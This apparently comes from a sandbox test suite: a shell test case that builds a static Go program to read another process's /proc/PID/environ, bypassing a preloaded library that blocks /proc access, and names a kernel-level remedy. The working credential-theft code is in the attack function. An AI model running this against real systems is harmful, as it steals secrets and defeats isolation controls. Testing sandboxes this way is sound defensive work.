#!/bin/sh
# SPDX-License-Identifier: MIT
#
# Goal:  the worker's credentials, past a library that is preloaded and refuses to open /proc.
# Means: a program in Go makes its system calls itself: it has no libc, and loads no library.
#
# shellcheck disable=SC2034 # attack.sh reads the words

effect="the worker's credentials reach the student"
means="os.ReadFile of /proc/PID/environ in a Go program"
oracle=secret:environ
needs=go
attack_id="T1574.006, CWE-693"
remedy="a wall in the kernel: Landlock, or a worker that is not dumpable"
seconds=60 # of a busy machine's

attack() {
	folder=$(mktemp -d) && cd "$folder" || failed "a folder"
	cat >main.go <<-END
		package main

		import ("fmt"; "os")

		func main() {
			text, err := os.ReadFile("/proc/$worker/environ")
			if err != nil {
				fmt.Println("denied:", err)
				os.Exit(1)
			}
			os.Stdout.Write(text)
		}
	END
	HOME=$folder GOCACHE=$folder/cache GOFLAGS=-p=1 GO111MODULE=off CGO_ENABLED=0 go build -o answer main.go ||
		failed "go build"
	attempting
	./answer
}

. "${0%/*}/../attack.sh"
